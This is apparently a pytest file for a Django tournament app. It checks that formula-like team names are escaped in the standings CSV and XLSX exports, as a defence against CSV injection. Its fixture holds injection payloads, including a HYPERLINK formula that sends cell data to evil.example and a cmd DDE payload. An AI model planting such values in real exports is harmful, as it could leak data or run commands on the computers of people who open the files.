"""docs/security.md, "Exports": a team named like a formula stays a name in the standings CSV and XLSX (OWASP, "CSV
Injection": cells beginning with =, +, -, @ are neutralised)."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from scoring.reports import spreadsheet_text
from tournament.services import create_event, import_roster

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def event():
    event = create_event(name="Formula Cup", slug="formula-cup", conversion="mcr-mp")
    roster = "team,player\n" + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",{t} player {m}\n'
                                       for t, name in enumerate(NAMES) for m in range(4))
    import_roster(event, roster)
    assert sorted(event.teams.values_list("name", flat=True)) == sorted(NAMES)
    return event


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(event):
    text = Client().get(reverse("standings-csv", args=[event.slug])).content.decode("utf-8")
    names = [row[1] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert sorted(names) == sorted("'" + name for name in NAMES)
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(text)) for cell in row)


def test_xlsx_stores_the_names_as_text_not_formulas(event):
    book = load_workbook(io.BytesIO(Client().get(reverse("standings-xlsx", args=[event.slug])).content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    names = [row[1] for row in book["Standings"].iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(NAMES)  # the name itself, unchanged


def test_numbers_and_plain_text_pass_unchanged():
    assert spreadsheet_text(-12) == -12
    assert spreadsheet_text("Sanya Sparrows") == "Sanya Sparrows"
    assert spreadsheet_text("\tx") == "'\tx"
